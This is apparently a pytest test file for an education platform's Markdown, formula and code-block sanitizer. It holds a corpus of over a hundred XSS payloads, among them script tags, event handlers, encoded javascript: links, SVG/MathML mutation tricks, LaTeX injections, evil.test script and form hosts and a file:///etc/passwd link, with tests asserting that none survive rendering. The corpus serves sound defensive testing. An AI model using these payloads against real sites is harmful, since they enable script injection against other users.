"""Rich text that people write is shown to others: nothing in it may run, load or pretend."""

from __future__ import annotations

import contextlib
import re
import sys
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from eduplatform.errors import Invalid
from eduplatform.security import rich_text
from eduplatform.security.code_blocks import LANGUAGES
from eduplatform.security.rich_text import (
    MAX_CHARACTERS,
    accessibility_problems,
    is_safe_image,
    is_safe_link,
    plain_text,
    render_markdown,
)

ALLOWED_TAGS = frozenset(
    [
        "a",
        "annotation",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "li",
        "math",
        "menclose",
        "merror",
        "mfrac",
        "mi",
        "mmultiscripts",
        "mn",
        "mo",
        "mover",
        "mpadded",
        "mphantom",
        "mroot",
        "mrow",
        "ms",
        "mspace",
        "msqrt",
        "mstyle",
        "msub",
        "msubsup",
        "msup",
        "mtable",
        "mtd",
        "mtext",
        "mtr",
        "munder",
        "munderover",
        "ol",
        "p",
        "pre",
        "s",
        "semantics",
        "span",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
URL_ATTRIBUTES = frozenset(
    [
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "data",
        "poster",
        "xlink:href",
        "background",
        "cite",
        "ping",
    ]
)


class Reader(HTMLParser):
    """Collects what a browser would meet."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.comments: list[str] = []
        self.texts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.comments.append(decl)

    def handle_pi(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def values(self, tag: str, name: str) -> list[str]:
        return [value for own_tag, own_name, value in self.attributes if (own_tag, own_name) == (tag, name)]


def assert_harmless(html: str) -> Reader:
    page = Reader(html)
    assert set(page.tags) <= ALLOWED_TAGS
    assert page.comments == []
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("style", "srcdoc", "srcset", "target", "name", "is", "xmlns"), (tag, name)
        if name in URL_ATTRIBUTES:
            assert (tag, name) in (("a", "href"), ("img", "src"))
            plain = re.sub(r"[\x00-\x20\x7f-\xa0]", "", value).lower()
            if name == "src":
                assert plain.startswith("/")
                assert not plain.startswith(("//", "/\\"))
            else:
                scheme = re.match(r"[^/?#]*?:", plain)
                assert scheme is None or scheme.group() in ("http:", "https:", "mailto:"), value
                assert not plain.startswith("//")
        if name == "id":
            assert value.startswith("h-")
    return page


JS = "alert(1)"
PAYLOADS = [
    # Scripts and handlers as raw HTML
    f"<script>{JS}</script>",
    f"<SCRIPT SRC=//evil.test/x.js></SCRIPT>{JS}",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script\n>{JS}</script\n>",
    f"<script/x>{JS}</script>",
    f"\x00<script>{JS}</script>",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"<img src=x onerror={JS}>",
    f'<img src="x" ONERROR="{JS}">',
    f"<img src=x:x onerror\n=\n{JS}>",
    f"<img/src=x/onerror={JS}>",
    f'<img """><script>{JS}</script>">',
    f"<body onload={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<div onmouseover={JS}>x</div>",
    f"<a onclick={JS} href=#>x</a>",
    f"<button formaction=javascript:{JS}>x</button>",
    # Frames, documents, styles
    f"<iframe src=javascript:{JS}></iframe>",
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f"<object data=javascript:{JS}></object>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{JS}">',
    "<link rel=stylesheet href=//evil.test/x.css>",
    f"<style>@import 'javascript:{JS}';</style>",
    f"<p style=\"background:url(javascript:{JS})\">x</p>",
    "<form action=//evil.test><input name=password></form>",
    f"<template><script>{JS}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    f"<xmp><p title='</xmp><img src=x onerror={JS}>'></xmp>",
    f"<textarea><script>{JS}</script></textarea>",
    f"<title></title><script>{JS}</script>",
    f"<plaintext><script>{JS}</script>",
    f"<isindex action=javascript:{JS}>",
    f"<frameset onload={JS}>",
    f"<x contenteditable onblur={JS}>x</x>",
    # Comments, declarations, sections
    f"<!-- <script>{JS}</script> -->",
    f"<!--><script>{JS}</script>-->",
    f"<!--!><img src=x onerror={JS}>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<?xml version='1.0'?><script>{JS}</script>",
    f"<!DOCTYPE html [<!ENTITY x '{JS}'>]>&x;",
    # SVG and MathML, also the shapes that change when parsed twice
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><a xlink:href=javascript:{JS}><text y=20>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{JS}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={JS}>#x'></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={JS}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={JS}&gt;\">",
    f"<math><maction actiontype=statusline#http://x xlink:href=javascript:{JS}>x</maction></math>",
    f"<math href=javascript:{JS}>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<math><annotation-xml encoding=text/html><script>{JS}</script></annotation-xml></math>",
    f"<math><mi xlink:href=\"data:x,<script>{JS}</script>\">x</mi></math>",
    # Links
    f"[x](javascript:{JS})",
    f"[x](JaVaScRiPt:{JS})",
    f"[x]( javascript:{JS} )",
    f"[x](\tjavascript:{JS})",
    f"[x](java\tscript:{JS})",
    f"[x](java&#x09;script:{JS})",
    f"[x](java&#10;script:{JS})",
    f"[x](&#106;avascript:{JS})",
    f"[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{JS})",
    f"[x](javascript&colon;{JS})",
    f"[x](javascript&#58;{JS})",
    f"[x](&NewLine;javascript:{JS})",
    f"[x](\x01javascript:{JS})",
    f"[x](\u2028javascript:{JS})",
    f"[x](<javascript:{JS}>)",
    f"[x](<java\tscript:{JS}>)",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html,<script>{JS}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.test/1)",
    f"[x](feed:javascript:{JS})",
    f"[x](view-source:javascript:{JS})",
    f"[x](jar:javascript:{JS}!/)",
    "[x](//evil.test)",
    "[x](/\\evil.test)",
    "[x](\\\\evil.test)",
    f"[x][y]\n\n[y]: javascript:{JS}",
    f"[x]\n\n[x]: <javascript:{JS}> 'title'",
    f"<javascript:{JS}>",
    "<data:text/html,x>",
    f'[x](https://a.test "\\" onmouseover=\\"{JS}")',
    f"[x](https://a.test \"'><script>{JS}</script>\")",
    f'[x](https://a.test/"onmouseover="{JS})',
    f"[<img src=x onerror={JS}>](https://a.test)",
    f"[x](mailto:a@b.test?body=<script>{JS}</script>)",
    # Images
    f"![x](javascript:{JS})",
    "![x](https://evil.test/pixel.png)",
    "![x](//evil.test/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    f'![x" onerror="{JS}](/a.png)',
    f"![<script>{JS}</script>](/a.png)",
    f'![x](/a.png "\\" onload=\\"{JS}")',
    f"![x](/a.png'onerror='{JS})",
    "![x](/\\evil.test/a.png)",
    f"![![x](javascript:{JS})](/a.png)",
    # Code
    f'```"><script>{JS}</script>\nx\n```',
    f'```python" onclick="{JS}\nx\n```',
    f"```html\n<script>{JS}</script>\n```",
    f"```python\nx = '</code></pre><script>{JS}</script>'\n```",
    f"```\n</code></pre><img src=x onerror={JS}>\n```",
    f"    <script>{JS}</script>",
    f"`<script>{JS}</script>`",
    f"~~~<img/src/onerror={JS}>\nx\n~~~",
    # Formulas
    f"$<script>{JS}</script>$",
    f"$$\n\\text{{<img src=x onerror={JS}>}}\n$$",
    f"$\\href{{javascript:{JS}}}{{x}}$",
    f"$\\text{{</mtext></math><script>{JS}</script>}}$",
    f"$\\text{{&lt;script&gt;{JS}&lt;/script&gt;}}$",
    f"$\\text{{&amp;lt;script&amp;gt;{JS}}}$",
    f"$\\text{{&#60;script&#62;{JS}&#60;/script&#62;}}$",
    f"$\\style{{background:url(javascript:{JS})}}{{x}}$",
    f'$\\class{{" onclick="{JS}}}{{x}}$',
    f'$\\color{{red" onclick="{JS}}}x$',
    f"$\\unicode{{x3c}}script\\unicode{{x3e}}{JS}$",
    f"$\\def\\a{{<script>{JS}</script>}}\\a$",
    f"$\\verb|<script>{JS}</script>|$",
    f"$\\operatorname{{<img src=x onerror={JS}>}}$",
    f"$\\begin{{matrix}}<script>&{JS}\\\\</script>\\end{{matrix}}$",
    f"$\\mathbb{{$<script>{JS}</script>$}}$",
    f"$\\hspace{{1em\" onclick=\"{JS}}}x$",
    f"$ a $$ <svg onload={JS}> $$ b $",
    # Tables, lists, headings, quotes
    f"| <script>{JS}</script> | b |\n|:-:|--|\n| x | <img src=x onerror={JS}> |",
    f"- [ ] <img src=x onerror={JS}>",
    f"- [x](javascript:{JS})",
    f"# <svg onload={JS}>",
    '# " onclick="alert(1)',
    f"> <script>{JS}</script>",
    f"~~<script>{JS}</script>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    f"\\<script\\>{JS}\\</script\\>",
    f"**<script>**{JS}**</script>**",
    "\u202e<script>\ud800\uffff",
]  # fmt: skip


def test_the_corpus_is_large_and_without_repetition() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 80


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_dangerous_comes_out(payload: str) -> None:
    assert_harmless(render_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["> - {}", "**{}**", "| a |\n|---|\n| {} |", "[{}](/x)", "![{}](/x)", "# {}", "$x$ {} $y$"]
)
def test_nothing_dangerous_comes_out_of_a_nested_place(payload: str, frame: str) -> None:
    assert_harmless(render_markdown(frame.format(payload)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_last_wall_holds_alone(payload: str) -> None:
    """Were the parser to let raw HTML through, the allow-list would still keep it from running."""
    page = Reader(rich_text._CLEANER.clean(payload.encode("utf-8", "ignore").decode()))
    assert set(page.tags) <= ALLOWED_TAGS
    assert page.comments == []
    for _tag, name, value in page.attributes:
        assert not name.startswith("on")
        assert name not in ("style", "srcdoc", "xlink:href", "name")
        assert not re.match(
            r"(javascript|data|vbscript|blob|file|feed|jar|view-source):", value.strip().lower()
        )


def test_a_second_pass_over_the_result_changes_no_structure() -> None:
    """What a browser builds from the result must not become something else when it is read once more."""
    for payload in PAYLOADS:
        first = Reader(render_markdown(payload))
        second = Reader(render_markdown(render_markdown(payload)))
        assert set(second.tags) <= ALLOWED_TAGS
        assert "script" not in first.tags


@given(st.text(max_size=400))
@settings(max_examples=200, deadline=None)
def test_any_text_renders_harmlessly(source: str) -> None:
    assert_harmless(render_markdown(source))


SNIPPETS = st.sampled_from([
    "<script>", "</script>", "javascript:", "data:text/html,", "onerror=", "[x](", ")", "![", "](", "$", "$$", "\\text{", "}", "`",
    "```\n", "```html\n", "<svg ", "<math>", "<style>", "<!--", "-->", "&#x6a;", "&colon;", "&lt;", "\\", "|", "\n|-|\n", "\n", "\n\n",
    "# ", "> ", "- ", "- [ ] ", "*", "**", "~~", '"', "'", "\t", "\x00", "\u2028", "\\frac{", "\\begin{matrix}", "&", "<a href=", "[y]: ",
])  # fmt: skip


@given(st.lists(SNIPPETS | st.text(max_size=6), max_size=40).map("".join))
@settings(max_examples=400, deadline=None)
def test_any_mixture_of_dangerous_pieces_renders_harmlessly(source: str) -> None:
    assert_harmless(render_markdown(source))
    plain_text(source)
    accessibility_problems(source)


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
@settings(max_examples=200, deadline=None)
def test_any_formula_renders_harmlessly(latex: str) -> None:
    assert_harmless(render_markdown(f"$$\n{latex}\n$$"))


@given(st.sampled_from(sorted(LANGUAGES)), st.text(max_size=120))
@settings(max_examples=200, deadline=None)
def test_code_is_shown_letter_by_letter(language: str, code: str) -> None:
    printable = "".join(c for c in code if c.isprintable() and c not in "`~\u202d\u202e")
    page = assert_harmless(render_markdown(f"```{language}\n{printable}\n```"))
    assert page.text.rstrip("\n") == printable


def test_markup_written_as_text_stays_readable() -> None:
    assert Reader(render_markdown("Use <b> & <script>.")).text.strip() == "Use <b> & <script>."


@pytest.mark.parametrize(
    "address",
    [
        "https://a.test/x?y=1&z=2",
        "http://a.test",
        "mailto:a@b.test",
        "/courses/1",
        "#h-top",
        "page",
        "?q=1",
        "./x",
    ],
)
def test_ordinary_addresses_are_links_that_pass_nothing_on(address: str) -> None:
    assert is_safe_link(address)
    page = assert_harmless(render_markdown(f"[x]({address})"))
    assert page.values("a", "href") == [address]
    assert page.values("a", "rel") == ["noopener nofollow ugc"]


@pytest.mark.parametrize(
    "address",
    ["", "https://a.test/x.png", "x.png", "//a.test/x.png", "/\\a.test", "data:image/png;base64,AA"],
)
def test_images_from_elsewhere_are_not_loaded(address: str) -> None:
    assert not is_safe_image(address)
    page = assert_harmless(render_markdown(f"![A map](<{address}>)"))
    assert "img" not in page.tags
    assert "A map" in page.text


def test_an_image_of_this_site_keeps_its_description() -> None:
    page = assert_harmless(render_markdown('![A *small* map](/files/7/map.png "The map")'))
    assert page.values("img", "src") == ["/files/7/map.png"]
    assert page.values("img", "alt") == ["A small map"]


def test_a_link_without_text_shows_where_it_leads() -> None:
    assert Reader(render_markdown("[](https://a.test/x)")).text.strip() == "https://a.test/x"


def test_headings_start_below_the_page_and_skip_no_level() -> None:
    html = render_markdown("# One\n\n#### Deep\n\n## Two\n\n# One")
    assert re.findall(r'<(h\d) id="([^"]+)">', html) == [
        ("h2", "h-one"), ("h3", "h-deep"), ("h3", "h-two"), ("h2", "h-one-2"),
    ]  # fmt: skip


def test_formulas_become_mathml_with_their_source() -> None:
    html = render_markdown(r"The area is $\frac{a}{b} < c$.")
    assert (
        '<math display="inline"><semantics><mrow><mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>'
        "<mo>&lt;</mo><mi>c</mi></mrow>"
    ) in html
    assert r'<annotation encoding="application/x-tex">\frac{a}{b} &lt; c</annotation>' in html


def test_a_formula_on_its_own_line_is_displayed() -> None:
    html = render_markdown("$$\n\\lim_{x \\to 0} x\n$$")
    assert '<div class="formula-block">' in html
    assert '<math display="block">' in html
    assert '<munder><mo movablelimits="true">lim</mo>' in html


def test_money_is_not_a_formula() -> None:
    assert "<math" not in render_markdown("It costs $5 today and $10 tomorrow.")


@pytest.mark.parametrize(
    "latex", [r"\frac", r"\left(", r"\begin{matrix}", r"a^b^c", r"\def\a{\a\a}\a", "{" * 60, "x" * 3000]
)
def test_what_is_not_a_formula_is_shown_as_written(latex: str) -> None:
    page = assert_harmless(render_markdown(f"${latex}$"))
    assert latex in page.text
    assert page.values("code", "class") == ["formula-error"]


def test_code_is_highlighted_by_class_names() -> None:
    html = render_markdown("```python\ndef f() -> int:\n    return 1  # one\n```")
    assert (
        '<pre class="code-block"><code class="language-python"><span class="k">def</span> <span class="nf">f</span>'
        in html
    )
    assert '<span class="c1"># one</span>' in html


def test_code_of_an_unknown_language_is_plain() -> None:
    assert (
        render_markdown("```nonsense\n1 < 2\n```").strip()
        == '<pre class="code-block"><code>1 &lt; 2\n</code></pre>'
    )


def test_tables_lists_and_deletions() -> None:
    html = render_markdown("| a | b |\n|--|--:|\n| ~~x~~ | 2 |\n\n- [x] done\n- [ ] open")
    assert '<th scope="col" class="align-right">b</th>' in html
    assert "<td><s>x</s></td>" in html
    assert '<li class="task"><span class="task-box">☑ </span>done</li>' in html
    assert '<span class="task-box">☐ </span>open' in html


def test_control_characters_disappear() -> None:
    assert render_markdown("a\x00\x07\x1b\x7f\x85b\ud800c\u202ed\ufffee").strip() == "<p>abcde</p>"


def test_a_megabyte_is_refused_at_once() -> None:
    hostile = "[" * 1_000_000
    begun = time.perf_counter()
    for function in (render_markdown, plain_text, accessibility_problems):
        with pytest.raises(Invalid):
            function(hostile)
    assert time.perf_counter() - begun < 0.1


def test_the_longest_text_is_accepted_and_one_more_character_is_not() -> None:
    assert render_markdown("a" * MAX_CHARACTERS).strip() == f"<p>{'a' * MAX_CHARACTERS}</p>"
    with pytest.raises(Invalid):
        render_markdown("a" * (MAX_CHARACTERS + 1))


def test_too_many_formulas_and_cells_are_refused() -> None:
    with pytest.raises(Invalid):
        render_markdown("$x$ " * 2_001)
    with pytest.raises(Invalid):
        render_markdown("|a" * 300 + "\n" + "|-" * 300 + "\n" + ("|a" * 300 + "\n") * 80)


HOSTILE = [
    "[", "![", "](", "[a](", "*a ", "**a _b", "`a", "$a ", "$$ a\n", "> ", "- ", "<", "<!--", "&#x41;", "~~a", "|", "\\", "[a]: b\n",
    "```\n", "(", "<http:", "[x](a 'b", "***a b", "`" * 3 + "python\n", "a\n-\n",
]  # fmt: skip


def lines_executed(text: str) -> int:
    """Count the lines of Python that rendering runs: work as the clock shows it, without the clock's noise."""
    count = 0

    def trace(_frame: object, event: str, _argument: object) -> object:
        nonlocal count
        count += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)  # type: ignore[arg-type]
    try:
        with contextlib.suppress(Invalid):
            render_markdown(text)
    finally:
        sys.settrace(before)
    return count


@pytest.mark.parametrize("piece", HOSTILE)
def test_work_grows_with_the_length_and_not_faster(piece: str) -> None:
    """Four times the text is about four times the work; a quadratic rule would do sixteen times as much."""
    small, large = (lines_executed((piece * length)[:length]) for length in (600, 2_400))
    assert large < 6 * small


def test_plain_text_is_what_a_reader_reads() -> None:
    source = "# Title\n\nA **bold** [link](https://a.test) and $x^2$\nnext line.\n\n- one\n- two\n\n```python\ncode()\n```\n\n![A map](/m.png)"
    assert plain_text(source) == "Title\nA bold link and x^2 next line.\none\ntwo\ncode()\nA map"


def test_accessibility_problems_name_their_lines() -> None:
    source = (
        "# Title\n\n### Too deep\n\nText\nwith ![](/a.png)\nand [](https://a.test).\n\n"
        "- ![ ](/b.png)\n\n| ![](/c.png) |\n|---|\n| x |\n\n![fine](/d.png) [fine](/e)"
    )
    assert [(problem.line, problem.code) for problem in accessibility_problems(source)] == [
        (3, "skipped_heading"), (6, "missing_alt"), (7, "empty_link"), (9, "missing_alt"), (11, "missing_alt"),
    ]  # fmt: skip


def test_a_good_text_has_no_accessibility_problems() -> None:
    assert accessibility_problems("## A\n\n### B\n\n## C\n\n[x](/y) ![z](/z.png)") == []
